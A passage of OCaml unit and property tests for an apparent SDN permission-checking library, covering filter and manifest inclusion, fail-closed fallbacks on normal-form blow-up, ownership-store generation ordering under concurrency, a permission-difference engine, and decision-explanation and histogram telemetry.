    (includes (filter "MAX_PRIORITY 50") (filter "MAX_PRIORITY 100"));
  Alcotest.(check bool) "min_priority" true
    (includes (filter "MIN_PRIORITY 10") (filter "MIN_PRIORITY 20"));
  Alcotest.(check bool) "rule_count" true
    (includes (filter "MAX_RULE_COUNT 100") (filter "MAX_RULE_COUNT 10"));
  Alcotest.(check bool) "all ⊇ own" true (includes (filter "ALL_FLOWS") (filter "OWN_FLOWS"));
  Alcotest.(check bool) "own ⊉ all" false (includes (filter "OWN_FLOWS") (filter "ALL_FLOWS"));
  Alcotest.(check bool) "arbitrary ⊇ from_pkt_in" true
    (includes (filter "ARBITRARY") (filter "FROM_PKT_IN"));
  Alcotest.(check bool) "modify ⊇ forward" true
    (includes (filter "ACTION MODIFY TCP_DST") (filter "ACTION FORWARD"));
  Alcotest.(check bool) "forward ⊉ drop" false
    (includes (filter "ACTION FORWARD") (filter "ACTION DROP"))

let test_wildcard_inclusion () =
  (* Fewer forced-wildcard bits = more permissive. *)
  Alcotest.(check bool) "/24-forced ⊇ /16-forced... no" false
    (includes (filter "WILDCARD IP_DST 255.255.255.0") (filter "WILDCARD IP_DST 255.255.0.0"));
  Alcotest.(check bool) "/16-forced ⊇ /24-forced" true
    (includes (filter "WILDCARD IP_DST 255.255.0.0") (filter "WILDCARD IP_DST 255.255.255.0"))

let test_topo_inclusion () =
  Alcotest.(check bool) "superset switches" true
    (includes (filter "SWITCH 1,2,3") (filter "SWITCH 1,2"));
  Alcotest.(check bool) "subset switches" false
    (includes (filter "SWITCH 1,2") (filter "SWITCH 1,2,3"));
  Alcotest.(check bool) "links constrain" true
    (includes (filter "SWITCH 1,2 LINK 1,2,3") (filter "SWITCH 1 LINK 2"))

(* Compound expressions -------------------------------------------------------- *)

let test_compound_inclusion () =
  let a = filter "OWN_FLOWS OR IP_DST 10.13.0.0 MASK 255.255.0.0" in
  let b = filter "IP_DST 10.13.7.0 MASK 255.255.255.0" in
  Alcotest.(check bool) "disjunct absorbs" true (includes a b);
  Alcotest.(check bool) "conjunction narrows" true
    (includes b (Filter.conj b (filter "MAX_PRIORITY 10")));
  Alcotest.(check bool) "conjunction not wider" false
    (includes (Filter.conj b (filter "MAX_PRIORITY 10")) b);
  Alcotest.(check bool) "true includes anything" true (includes Filter.True a);
  Alcotest.(check bool) "anything includes false" true (includes a Filter.False)

let test_negation_conservative () =
  (* Mixed-polarity inclusion is never claimed: a dimension-less call
     (e.g. a topology read) satisfies both 10.13/16 and ¬(10.14/16)'s
     operand vacuously, so range disjointness does not imply semantic
     inclusion.  The algorithm answers the conservative [false]. *)
  let not_14 = Filter.neg (filter "IP_DST 10.14.0.0 MASK 255.255.0.0") in
  Alcotest.(check bool) "neg/pos conservative" false
    (includes not_14 (filter "IP_DST 10.13.0.0 MASK 255.255.0.0"));
  let not_10 = Filter.neg (filter "IP_DST 10.0.0.0 MASK 255.0.0.0") in
  Alcotest.(check bool) "neg overlap rejected" false
    (includes not_10 (filter "IP_DST 10.13.0.0 MASK 255.255.0.0"));
  (* Negation pairs flip soundly: ¬(/16) ⊇ ¬(/8). *)
  Alcotest.(check bool) "neg/neg flips" true
    (includes
       (Filter.neg (filter "IP_DST 10.13.0.0 MASK 255.255.0.0"))
       (Filter.neg (filter "IP_DST 10.0.0.0 MASK 255.0.0.0")))

(* Manifest-level --------------------------------------------------------------- *)

let test_manifest_inclusion () =
  let big =
    manifest
      "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0\n\
       PERM read_statistics\nPERM visible_topology"
  in
  let small =
    manifest "PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0" in
  Alcotest.(check bool) "big ⊇ small" true (Inclusion.manifest_includes big small);
  Alcotest.(check bool) "small ⊉ big" false (Inclusion.manifest_includes small big);
  Alcotest.(check bool) "missing token" false
    (Inclusion.manifest_includes small (manifest "PERM read_statistics"));
  Alcotest.(check bool) "empty included in all" true
    (Inclusion.manifest_includes small []);
  match Inclusion.compare_manifests big small with
  | `Superset -> ()
  | _ -> Alcotest.fail "compare_manifests"

let test_manifest_overlap () =
  let m = manifest "PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0" in
  Alcotest.(check bool) "same token overlapping filters" true
    (Inclusion.manifests_overlap m
       (manifest "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0"));
  (* Range-disjoint filters on the same token still count as overlap:
     satisfiability is conservative (dimension-less calls satisfy
     both), which errs toward reporting mutual-exclusion violations. *)
  Alcotest.(check bool) "same token disjoint filters (conservative)" true
    (Inclusion.manifests_overlap m
       (manifest "PERM insert_flow LIMITING IP_DST 10.14.0.0 MASK 255.255.0.0"));
  Alcotest.(check bool) "different tokens" false
    (Inclusion.manifests_overlap m (manifest "PERM read_statistics"))

let test_satisfiability () =
  Alcotest.(check bool) "plain filter sat" true
    (Inclusion.filter_satisfiable (filter "OWN_FLOWS"));
  (* Range-disjoint conjunction is conservatively *satisfiable*: calls
     without the IP_DST dimension pass both conjuncts vacuously. *)
  Alcotest.(check bool) "range-disjoint conj conservative" true
    (Inclusion.filter_satisfiable
       (Filter.conj (filter "IP_DST 10.13.0.0 MASK 255.255.0.0")
          (filter "IP_DST 10.14.0.0 MASK 255.255.0.0")));
  Alcotest.(check bool) "x and not x unsat" false
    (Inclusion.filter_satisfiable
       (Filter.conj (filter "OWN_FLOWS") (Filter.neg (filter "OWN_FLOWS"))));
  Alcotest.(check bool) "false unsat" false (Inclusion.filter_satisfiable Filter.False)

(* Normal forms ------------------------------------------------------------------ *)

let test_nf_shapes () =
  let a = filter "OWN_FLOWS" and b = filter "ACTION DROP" in
  Alcotest.(check int) "cnf of and = 2 clauses" 2
    (List.length (Nf.cnf (Filter.And (a, b))));
  Alcotest.(check int) "cnf of or = 1 clause" 1
    (List.length (Nf.cnf (Filter.Or (a, b))));
  Alcotest.(check int) "dnf of or = 2 clauses" 2
    (List.length (Nf.dnf (Filter.Or (a, b))));
  Alcotest.(check int) "cnf of true = no clauses" 0 (List.length (Nf.cnf Filter.True));
  Alcotest.(check (list (list bool))) "cnf of false = empty clause"
    [ [] ]
    (List.map (List.map (fun (l : Nf.literal) -> l.Nf.positive)) (Nf.cnf Filter.False))

let test_nf_too_large () =
  (* (a1∨b1)∧(a2∨b2)∧… explodes in DNF; the guard must trip rather
     than hang. *)
  let clause i =
    Filter.Or
      ( filter (Printf.sprintf "MAX_PRIORITY %d" i),
        filter (Printf.sprintf "MIN_PRIORITY %d" i) )
  in
  let big =
    List.fold_left
      (fun acc i -> Filter.And (acc, clause i))
      (clause 0)
      (List.init 20 (fun i -> i + 1))
  in
  (try
     ignore (Nf.dnf ~max_clauses:1024 big);
     Alcotest.fail "expected Too_large"
   with Nf.Too_large -> ());
  (* And inclusion degrades to a conservative false instead of raising
     (syntactically different operands, so the fast equality path does
     not short-circuit). *)
  Alcotest.(check bool) "conservative fallback" false
    (Inclusion.filter_includes ~max_clauses:64 big (Filter.And (big, big)))

let test_too_large_fail_closed () =
  (* Pin the direction of every Too_large fallback (docs/VETTING.md):
     a blow-up must never *widen* what an app may do.  [includes]
     answers false (no permission granted on the strength of an
     unfinished comparison); [satisfiable] and [overlap] answer true
     (exclusion constraints stay armed). *)
  let bomb = Shield_workload.Hostile_gen.cross_bomb ~atoms:128 in
  (* Syntactically distinct operands: the reflexive fast path would
     short-circuit [includes bomb bomb] before any conversion. *)
  Alcotest.(check bool) "includes falls back to false" false
    (Inclusion.filter_includes ~max_clauses:16 bomb (Filter.And (bomb, bomb)));
  Alcotest.(check bool) "satisfiable falls back to true" true
    (Inclusion.filter_satisfiable ~max_clauses:16 bomb);
  let with_bomb =
    [ { Perm.token = Token.Insert_flow; filter = bomb } ]
  in
  let with_bomb' =
    [ { Perm.token = Token.Insert_flow;
        filter = Filter.Not bomb } ]
  in
  Alcotest.(check bool) "overlap falls back to true" true
    (Inclusion.manifests_overlap with_bomb with_bomb')

(* Soundness properties (qcheck) --------------------------------------------------- *)

let env = Filter_eval.pure_env

let qsuite =
  let count = 300 in
  [ QCheck.Test.make ~count ~name:"inclusion sound wrt evaluation"
      (QCheck.triple Test_filters.expr_arb Test_filters.expr_arb Test_filters.call_arb)
      (fun (a, b, call) ->
        QCheck.assume (Inclusion.filter_includes a b);
        let attrs = Attrs.of_call call in
        (* b admits the call => a must admit it. *)
        (not (Filter_eval.eval env b attrs)) || Filter_eval.eval env a attrs);
    QCheck.Test.make ~count ~name:"inclusion reflexive"
      Test_filters.expr_arb
      (fun e -> Inclusion.filter_includes e e);
    QCheck.Test.make ~count:200 ~name:"inclusion transitive when claimed"
      (QCheck.triple Test_filters.expr_arb Test_filters.expr_arb Test_filters.expr_arb)
      (fun (a, b, c) ->
        QCheck.assume (Inclusion.filter_includes a b && Inclusion.filter_includes b c);
        (* Transitivity of the underlying semantics: spot-check via
           evaluation on random calls is covered above; here check the
           algorithm itself doesn't contradict itself on (a, c) by
           claiming strict disjointness.  A ⊇ B ⊇ C ⇒ meet(A,C)
           satisfiable unless C empty. *)
        (not (Inclusion.filter_satisfiable c))
        || Inclusion.filter_satisfiable (Filter.conj a c));
    QCheck.Test.make ~count ~name:"unsat filters admit nothing"
      (QCheck.pair Test_filters.expr_arb Test_filters.call_arb)
      (fun (e, call) ->
        QCheck.assume (not (Inclusion.filter_satisfiable e));
        not (Filter_eval.eval env e (Attrs.of_call call))) ]

let suite =
  [ Alcotest.test_case "pred inclusion" `Quick test_pred_inclusion;
    Alcotest.test_case "singleton disjointness (range, not emptiness)" `Quick
      test_singleton_disjoint;
    Alcotest.test_case "cross-dimension incomparable" `Quick test_cross_dimension_incomparable;
    Alcotest.test_case "scalar inclusions" `Quick test_scalar_inclusions;
    Alcotest.test_case "wildcard inclusion" `Quick test_wildcard_inclusion;
    Alcotest.test_case "topology inclusion" `Quick test_topo_inclusion;
    Alcotest.test_case "compound inclusion" `Quick test_compound_inclusion;
    Alcotest.test_case "negation conservative" `Quick test_negation_conservative;
    Alcotest.test_case "manifest inclusion" `Quick test_manifest_inclusion;
    Alcotest.test_case "manifest overlap" `Quick test_manifest_overlap;
    Alcotest.test_case "satisfiability" `Quick test_satisfiability;
    Alcotest.test_case "normal-form shapes" `Quick test_nf_shapes;
    Alcotest.test_case "normal-form size guard" `Quick test_nf_too_large;
    Alcotest.test_case "Too_large fallbacks fail closed" `Quick
      test_too_large_fail_closed ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false) qsuite
