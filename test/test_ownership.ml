(* Ownership-store publication tests.

   The store's documented invariant (lib/core/ownership.ml): the
   generation counter is bumped inside the lock *before* the table
   mutation lands, so two lock-free generation reads that bracket a
   locked read of the table and agree on [g] guarantee the table
   content seen is exactly the generation-[g] state.  The decision
   caches rely on this ordering to over-invalidate (never stale-serve)
   under races; the two-domain hammer here pins it by construction:
   every writer mutation adds exactly one rule, so generation and rule
   count must agree in any bracketed-stable observation.  Reversing
   the bump and the mutation would make the hammer fail (a reader
   could see k+1 rules inside a stable generation-k window). *)

open Shield_openflow
open Sdnshield

let match_all = Match_fields.make ~dl_type:Types.Eth_ip ()

let add_rule own i =
  (* Distinct priority per mutation: [record] replaces only on equal
     (priority, match), so each add is exactly +1 rule and +1 bump. *)
  Ownership.record own ~dpid:1
    (Flow_mod.add ~priority:i ~cookie:1 ~match_:match_all ~actions:[] ())
    ~cookie:1

let test_generation_counts_mutations () =
  let own = Ownership.create () in
  Alcotest.(check int) "fresh store at generation 0" 0 (Ownership.generation own);
  for i = 1 to 10 do add_rule own i done;
  Alcotest.(check int) "one bump per mutation" 10 (Ownership.generation own);
  Alcotest.(check int) "one rule per mutation" 10
    (List.length (Ownership.rules_at own 1))

let test_restore_bumps_generation () =
  (* Rollback must invalidate gated cache entries even when it restores
     bit-identical content — the caches key on the counter, not on the
     rules. *)
  let own = Ownership.create () in
  add_rule own 1;
  let snap = Ownership.snapshot own in
  let g = Ownership.generation own in
  Ownership.restore own snap;
  Alcotest.(check bool) "restore bumps even when content is identical" true
    (Ownership.generation own > g)

let test_two_domain_hammer () =
  let own = Ownership.create () in
  let n = 20_000 in
  let writer () =
    for i = 1 to n do add_rule own i done
  in
  (* Reader: bracket every locked table read with two lock-free
     generation reads; whenever they agree, the incr-before-mutate
     ordering forces count = generation.  [stable] counts the samples
     where the bracket actually closed, so the test fails loudly if it
     stops exercising the invariant. *)
  let reader () =
    let violations = ref 0 and stable = ref 0 in
    while Ownership.generation own < n do
      let g1 = Ownership.generation own in
      let rules = Ownership.rules_at own 1 in
      let g2 = Ownership.generation own in
      if g1 = g2 then begin
        incr stable;
        if List.length rules <> g1 then incr violations
      end
    done;
    (!violations, !stable)
  in
  let w = Domain.spawn writer in
  let violations, stable = reader () in
  Domain.join w;
  Alcotest.(check int) "no bracketed sample ever saw count <> generation" 0
    violations;
  Alcotest.(check bool) "hammer produced stable samples" true (stable > 0);
  Alcotest.(check int) "quiescent: generation = mutations" n
    (Ownership.generation own);
  Alcotest.(check int) "quiescent: count = mutations" n
    (List.length (Ownership.rules_at own 1))

let suite =
  [ Alcotest.test_case "generation counts mutations" `Quick
      test_generation_counts_mutations;
    Alcotest.test_case "restore bumps generation" `Quick
      test_restore_bumps_generation;
    Alcotest.test_case "two-domain hammer: incr-before-mutate" `Quick
      test_two_domain_hammer ]
