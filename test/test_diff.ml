(* Unit tests for the symbolic lattice-difference engine (lib/core/
   diff.ml).  The fail-closed pinning mirrors the Inclusion fallback
   directions in test_verify.ml: past budget exhaustion or normal-form
   blow-up, [Diff.diff] must answer [Unknown] — never a false [Empty]
   (the direction table lives in docs/VETTING.md §3). *)

open Sdnshield
module Hostile = Shield_workload.Hostile_gen

let manifest src =
  match Perm_parser.manifest_of_string src with
  | Ok m -> m
  | Error e -> Alcotest.failf "test manifest does not parse: %s" e

let pure = Filter_eval.pure_env

let wide = [ { Perm.token = Token.Insert_flow; filter = Filter.True } ]

let narrow () =
  manifest "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0"

let verdict_name = function
  | Diff.Empty -> "Empty"
  | Diff.Nonempty _ -> "Nonempty"
  | Diff.Unknown _ -> "Unknown"

(* Sound proofs ---------------------------------------------------------------- *)

let test_empty_on_inclusion () =
  (match Diff.diff (narrow ()) wide with
  | Diff.Empty -> ()
  | v -> Alcotest.failf "narrow \\ wide should prove Empty, got %s" (verdict_name v));
  (* Disjoint token sets share no behaviour. *)
  match Diff.overlap (manifest "PERM pkt_in_event") (narrow ()) with
  | Diff.Empty -> ()
  | v ->
    Alcotest.failf "token-disjoint overlap should prove Empty, got %s"
      (verdict_name v)

(* Confirmed witnesses --------------------------------------------------------- *)

let test_diff_witnesses_confirmed () =
  match Diff.diff wide (narrow ()) with
  | Diff.Nonempty (_ :: _ as ws) ->
    List.iter
      (fun (w : Diff.witness) ->
        let attrs = Attrs.of_call w.Diff.call in
        Alcotest.(check bool) "admitted by the left side" true
          (Filter_eval.eval pure (Perm.filter_of wide w.Diff.token) attrs);
        Alcotest.(check bool) "rejected by the right side" false
          (Filter_eval.eval pure (Perm.filter_of (narrow ()) w.Diff.token) attrs);
        Alcotest.(check bool) "left explanation present" true (w.Diff.why_left <> "");
        Alcotest.(check bool) "right explanation present" true
          (w.Diff.why_right <> ""))
      ws
  | v -> Alcotest.failf "True \\ 10/8 should be witnessed, got %s" (verdict_name v)

let test_overlap_witnesses_confirmed () =
  match Diff.overlap wide (narrow ()) with
  | Diff.Nonempty (_ :: _ as ws) ->
    List.iter
      (fun (w : Diff.witness) ->
        let attrs = Attrs.of_call w.Diff.call in
        Alcotest.(check bool) "admitted by the left side" true
          (Filter_eval.eval pure (Perm.filter_of wide w.Diff.token) attrs);
        Alcotest.(check bool) "ALSO admitted by the right side" true
          (Filter_eval.eval pure (Perm.filter_of (narrow ()) w.Diff.token) attrs))
      ws
  | v -> Alcotest.failf "True ∩ 10/8 should be witnessed, got %s" (verdict_name v)

let test_witness_cap_respected () =
  match Diff.diff ~max_witnesses:1 wide (narrow ()) with
  | Diff.Nonempty ws ->
    Alcotest.(check int) "max_witnesses caps the list" 1 (List.length ws)
  | v -> Alcotest.failf "expected a single witness, got %s" (verdict_name v)

(* Fail-closed directions (pins docs/VETTING.md §3) --------------------------- *)

let test_exhaustion_is_unknown_never_empty () =
  let b =
    Budget.create ~limits:{ Budget.default_limits with Budget.max_steps = 1 } ()
  in
  (* Drain the scope so every tick inside [diff] raises... *)
  (try
     Budget.with_scope b (fun () ->
         Budget.step ();
         Budget.step ())
   with Budget.Exhausted _ -> ());
  (* ...then [diff] must absorb the exhaustion into [Unknown]: the true
     answer here is Nonempty, so Empty would be an unsound proof and
     Nonempty an un-metered search.  (Parse the manifest outside the
     scope — the parser ticks the budget too.) *)
  let n = narrow () in
  match Budget.with_scope b (fun () -> Diff.diff wide n) with
  | Diff.Unknown _ -> ()
  | Diff.Empty -> Alcotest.fail "exhausted diff answered a false Empty"
  | Diff.Nonempty _ -> Alcotest.fail "exhausted diff still searched for witnesses"
  | exception exn ->
    Alcotest.failf "diff raised instead of degrading: %s" (Printexc.to_string exn)

let test_blowup_is_unknown_not_empty () =
  (* cross_bomb's DNF is 6400 clauses, past Inclusion's 4096-clause
     guard, so the (true) inclusion bomb ⊆ True is unprovable; and no
     call can be admitted by the bomb yet rejected by [True], so no
     witness exists either.  The only sound answer left is Unknown. *)
  let bomb_m = Hostile.manifest_of_filter (Hostile.cross_bomb ~atoms:80) in
  (match Diff.diff bomb_m wide with
  | Diff.Unknown _ -> ()
  | v ->
    Alcotest.failf "unprovable-and-unwitnessable diff must be Unknown, got %s"
      (verdict_name v));
  (* The reflexive query dodges the blow-up through the syntactic
     fast path: emptiness of p \ p is still proved. *)
  match Diff.diff bomb_m bomb_m with
  | Diff.Empty -> ()
  | v -> Alcotest.failf "reflexive diff should prove Empty, got %s" (verdict_name v)

let test_find_call_can_raise () =
  (* The raw candidate engine deliberately does NOT absorb exhaustion —
     that is [diff]'s job (diff.mli). *)
  let b =
    Budget.create ~limits:{ Budget.default_limits with Budget.max_steps = 1 } ()
  in
  (try
     Budget.with_scope b (fun () ->
         Budget.step ();
         Budget.step ())
   with Budget.Exhausted _ -> ());
  let raised =
    try
      Budget.with_scope b (fun () ->
          ignore
            (Diff.find_call ~filters:[ Filter.True ] Token.Insert_flow
               ~goal:(fun _ -> true)));
      false
    with Budget.Exhausted _ -> true
  in
  Alcotest.(check bool) "find_call propagates Budget.Exhausted" true raised

(* Witness-list hygiene -------------------------------------------------------- *)

let test_dedup_stable_and_capped () =
  let x = ref 1 and y = ref 2 and z = ref 3 in
  Alcotest.(check bool) "physical duplicates coalesce, order stable" true
    (Diff.dedup [ x; y; x; z; y ] == [ x; y; z ]
    || Diff.dedup [ x; y; x; z; y ] = [ x; y; z ]);
  let first_of l = List.nth l 0 in
  Alcotest.(check bool) "first occurrence wins" true
    (first_of (Diff.dedup [ x; y; x ]) == x);
  Alcotest.(check int) "explicit cap bounds the list" 3
    (List.length (Diff.dedup ~cap:3 [ 1; 2; 3; 4; 5; 6 ]));
  Alcotest.(check int) "default cap is 8" 8
    (List.length (Diff.dedup (List.init 50 (fun i -> i))));
  (* Structurally equal but physically distinct elements are kept:
     dedup never drops a witness it cannot prove redundant. *)
  Alcotest.(check int) "structural twins survive" 2
    (List.length (Diff.dedup [ ref 7; ref 7 ]))

let test_hostile_never_raises () =
  for seed = 1 to 5 do
    let manifest_src, _ = Hostile.assertion_heavy ~seed in
    let m = manifest manifest_src in
    match (Diff.diff m [], Diff.overlap m m) with
    | _, _ -> ()
    | exception exn ->
      Alcotest.failf "diff/overlap raised on hostile seed %d: %s" seed
        (Printexc.to_string exn)
  done

let suite =
  [ Alcotest.test_case "Empty on provable inclusion" `Quick test_empty_on_inclusion;
    Alcotest.test_case "diff witnesses confirmed both sides" `Quick
      test_diff_witnesses_confirmed;
    Alcotest.test_case "overlap witnesses admitted by both" `Quick
      test_overlap_witnesses_confirmed;
    Alcotest.test_case "max_witnesses caps the list" `Quick
      test_witness_cap_respected;
    Alcotest.test_case "exhaustion degrades to Unknown, never Empty" `Quick
      test_exhaustion_is_unknown_never_empty;
    Alcotest.test_case "normal-form blow-up degrades to Unknown" `Quick
      test_blowup_is_unknown_not_empty;
    Alcotest.test_case "find_call propagates exhaustion" `Quick
      test_find_call_can_raise;
    Alcotest.test_case "dedup is stable, physical, capped" `Quick
      test_dedup_stable_and_capped;
    Alcotest.test_case "hostile manifests never raise" `Quick
      test_hostile_never_raises ]
