(* Observability layer: span store semantics, decision explanations,
   log-linear histogram accuracy, and the telemetry exporters
   (docs/OBSERVABILITY.md). *)

open Shield_openflow
open Shield_net
open Shield_controller
open Sdnshield

let contains ~sub s =
  let n = String.length s and m = String.length sub in
  let rec go i = i + m <= n && (String.sub s i m = sub || go (i + 1)) in
  m = 0 || go 0

let check_contains what ~sub s =
  Alcotest.(check bool)
    (Printf.sprintf "%s contains %S (got %S)" what sub s)
    true (contains ~sub s)

let dummy_span i =
  { Trace.seq = 0; app = "a"; call = "install_flow"; deputy = 0;
    start = float_of_int i; queue_wait = float_of_int i; check_dur = 0.;
    exec_dur = 0.; total = float_of_int i; decision = Trace.Allowed;
    cache = Api.Uncached; explain = None }

(* Span store ---------------------------------------------------------------- *)

let test_ring_wraparound () =
  let t = Trace.create ~capacity:4 () in
  for i = 0 to 9 do
    Trace.record t (dummy_span i)
  done;
  let st = Trace.stats t in
  Alcotest.(check int) "recorded" 10 st.Trace.recorded;
  Alcotest.(check int) "stored" 4 st.Trace.stored;
  Alcotest.(check int) "dropped" 6 st.Trace.dropped;
  (* Oldest first, and [seq] is the store's own numbering. *)
  Alcotest.(check (list int)) "surviving seqs, oldest first" [ 6; 7; 8; 9 ]
    (List.map (fun (s : Trace.span) -> s.Trace.seq) (Trace.spans t));
  Trace.clear t;
  let st = Trace.stats t in
  Alcotest.(check int) "cleared" 0 st.Trace.recorded;
  Alcotest.(check (list int)) "no spans" []
    (List.map (fun (s : Trace.span) -> s.Trace.seq) (Trace.spans t))

let test_sampling_stride () =
  (* sampling 0.25 -> deterministic 1-in-4 stride, starting with the
     first offered call. *)
  let t = Trace.create ~capacity:16 ~sampling:0.25 () in
  let hits = List.init 10 (fun _ -> Trace.sampled t) in
  Alcotest.(check (list bool)) "1-in-4 pattern"
    [ true; false; false; false; true; false; false; false; true; false ]
    hits;
  let st = Trace.stats t in
  Alcotest.(check int) "seen" 10 st.Trace.seen;
  Alcotest.(check int) "sampled out" 7 st.Trace.sampled_out;
  Alcotest.(check (float 1e-9)) "effective ratio" 0.25 st.Trace.sampling

let test_create_validation () =
  Alcotest.check_raises "capacity 0" (Invalid_argument
    "Trace.create: capacity must be > 0") (fun () ->
      ignore (Trace.create ~capacity:0 ()));
  Alcotest.check_raises "sampling 0" (Invalid_argument
    "Trace.create: sampling must be in (0, 1]") (fun () ->
      ignore (Trace.create ~sampling:0. ()))

(* Decision explanations ----------------------------------------------------- *)

let insert ~priority =
  Api.Install_flow
    ( 1,
      Flow_mod.add ~priority
        ~match_:(Match_fields.make ~tp_dst:80 ())
        ~actions:[ Action.Output 1 ] () )

let test_filter_explain_clauses () =
  let env = Filter_eval.pure_env in
  let explain f call = Filter_eval.explain env f (Attrs.of_call call) in
  (* And-rooted: the first failing clause is named. *)
  let conj = Test_util.filter_exn "MAX_PRIORITY 400 AND TCP_DST 80" in
  let ok, why = explain conj (insert ~priority:1000) in
  Alcotest.(check bool) "conj fails" false ok;
  check_contains "conj why" ~sub:"clause 1/2 failed" why;
  check_contains "conj why names the atom" ~sub:"MAX_PRIORITY 400" why;
  let ok, why = explain conj (insert ~priority:100) in
  Alcotest.(check bool) "conj passes" true ok;
  check_contains "conj why" ~sub:"all 2 clauses passed" why;
  (* Or-rooted: the first passing clause is named. *)
  let disj = Test_util.filter_exn "TCP_DST 443 OR MAX_PRIORITY 400" in
  let ok, why = explain disj (insert ~priority:100) in
  Alcotest.(check bool) "disj passes" true ok;
  check_contains "disj why" ~sub:"clause 2/2 passed" why;
  let ok, why = explain disj (insert ~priority:1000) in
  Alcotest.(check bool) "disj fails" false ok;
  check_contains "disj why" ~sub:"none of 2 clauses" why

(* [explain] must never disagree with [eval] — the span's verdict is
   the verdict served. *)
let test_filter_explain_agrees_with_eval () =
  let env = Filter_eval.pure_env in
  let filters =
    List.map Test_util.filter_exn
      [ "MAX_PRIORITY 400"; "MAX_PRIORITY 400 AND TCP_DST 80";
        "TCP_DST 443 OR TCP_DST 80"; "ACTION FORWARD AND MAX_PRIORITY 200" ]
    @ [ Filter.True; Filter.False ]
  in
  let calls = [ insert ~priority:100; insert ~priority:1000;
                Api.Read_topology; Api.Read_payload_access ]
  in
  List.iter
    (fun f ->
      List.iter
        (fun c ->
          let attrs = Attrs.of_call c in
          let verdict = Filter_eval.eval env f attrs in
          let explained, _ = Filter_eval.explain env f attrs in
          Alcotest.(check bool) "explain = eval" verdict explained)
        calls)
    filters

let demo_manifest = "PERM insert_flow LIMITING MAX_PRIORITY 400"

let test_engine_check_explained () =
  let e =
    Engine.create ~cache_size:256
      ~ownership:(Ownership.create ())
      ~app_name:"explained" ~cookie:1
      (Perm_parser.manifest_exn demo_manifest)
  in
  (* Denied: explanation names the token and the failing clause. *)
  (match Engine.check_explained e (insert ~priority:1000) with
  | Api.Deny why, info ->
    check_contains "deny reason" ~sub:"permission filter rejects call" why;
    (match info.Api.explain with
    | None -> Alcotest.fail "denial carries no explanation"
    | Some ex ->
      check_contains "explanation names token" ~sub:"token insert_flow" ex;
      check_contains "explanation names clause" ~sub:"MAX_PRIORITY 400" ex)
  | Api.Allow, _ -> Alcotest.fail "priority 1000 must be denied");
  (* Allowed: still explained. *)
  (match Engine.check_explained e (insert ~priority:100) with
  | Api.Allow, info ->
    Alcotest.(check bool) "allow explained" true (info.Api.explain <> None)
  | Api.Deny why, _ -> Alcotest.failf "priority 100 denied: %s" why);
  (* Missing permission. *)
  (match Engine.check_explained e Api.Read_topology with
  | Api.Deny why, info ->
    check_contains "missing perm" ~sub:"missing permission visible_topology"
      why;
    (match info.Api.explain with
    | Some ex -> check_contains "missing perm explained" ~sub:"not granted" ex
    | None -> Alcotest.fail "missing-permission denial unexplained")
  | Api.Allow, _ -> Alcotest.fail "ungranted read_topology must be denied");
  (* Repeating a call is served from the cache, and the provenance
     says so. *)
  let _, info = Engine.check_explained e (insert ~priority:1000) in
  (match info.Api.cache with
  | Api.L1_hit | Api.L2_hit -> ()
  | o ->
    Alcotest.failf "repeat not served from cache: %s"
      (Api.cache_outcome_to_string o));
  (* [check_explained] and [check] agree. *)
  List.iter
    (fun call ->
      let plain = Engine.check e call in
      let explained, _ = Engine.check_explained e call in
      Alcotest.(check bool) "explained = plain"
        (plain = Api.Allow) (explained = Api.Allow))
    [ insert ~priority:100; insert ~priority:1000; Api.Read_topology ];
  Metrics.unregister_cache "engine:explained"

let test_compiled_check_explained () =
  let m = Perm_parser.manifest_exn demo_manifest in
  let c = Compiled.of_manifest ~cache_size:256 m in
  (match Compiled.check_explained c (insert ~priority:1000) with
  | Api.Deny _, info ->
    (match info.Api.explain with
    | Some ex -> check_contains "compiled explains" ~sub:"MAX_PRIORITY 400" ex
    | None -> Alcotest.fail "compiled denial unexplained")
  | Api.Allow, _ -> Alcotest.fail "compiled must deny priority 1000");
  List.iter
    (fun call ->
      let plain = Compiled.check c call in
      let explained, _ = Compiled.check_explained c call in
      Alcotest.(check bool) "compiled explained = plain" (plain = Api.Allow)
        (explained = Api.Allow))
    [ insert ~priority:100; insert ~priority:1000; Api.Read_topology ]

(* Histograms ---------------------------------------------------------------- *)

let hist_of values =
  let h = Metrics.Histogram.create () in
  List.iter (Metrics.Histogram.record h) values;
  h

let test_histogram_merge_laws () =
  let module H = Metrics.Histogram in
  let a = hist_of [ 1e-6; 2e-5; 3e-4 ]
  and b = hist_of [ 5e-6; 0.1; 2.0 ]
  and c = hist_of [ 1e-7; 100.; 0.007 ] (* under- and overflow samples *) in
  Alcotest.(check bool) "commutative" true
    (H.export (H.merge a b) = H.export (H.merge b a));
  Alcotest.(check bool) "associative" true
    (H.export (H.merge (H.merge a b) c) = H.export (H.merge a (H.merge b c)));
  let m = H.merge (H.merge a b) c in
  Alcotest.(check int) "merged count" 9 (H.count m);
  let e = H.export m in
  Alcotest.(check (float 1e-12)) "merged min" 1e-7 e.H.min;
  Alcotest.(check (float 1e-9)) "merged max" 100. e.H.max

let test_histogram_edges () =
  let module H = Metrics.Histogram in
  let h = H.create () in
  Alcotest.(check bool) "empty percentile nan" true
    (Float.is_nan (H.percentile h 50.));
  H.record h (-1.);
  H.record h Float.nan;
  let e = H.export h in
  Alcotest.(check int) "negative and nan are underflow" 2 e.H.underflow

(** Nearest-rank exact percentile, for the accuracy property. *)
let exact_nearest_rank p samples =
  let a = Array.of_list (List.sort Float.compare samples) in
  let n = Array.length a in
  let rank = max 1 (int_of_float (ceil (p /. 100. *. float_of_int n))) in
  a.(rank - 1)

let qsuite =
  [ QCheck.Test.make ~count:300
      ~name:"histogram p50/p90 within one bucket of exact nearest-rank"
      QCheck.(list_of_size (Gen.int_range 1 150) (float_range 2e-6 8.0))
      (fun samples ->
        let module H = Metrics.Histogram in
        let h = hist_of samples in
        List.for_all
          (fun p ->
            let exact = exact_nearest_rank p samples in
            let est = H.percentile h p in
            let lo, hi = H.bucket_bounds (H.bucket_index exact) in
            lo <= est && est <= hi)
          [ 50.; 90. ]) ]

(* Telemetry export ---------------------------------------------------------- *)

let test_telemetry_roundtrip () =
  let h = Metrics.hist "test:lat" in
  List.iter (Metrics.Histogram.record h) [ 1e-5; 2e-4; 5e-4; 0.5 ];
  let tr = Trace.create ~capacity:8 () in
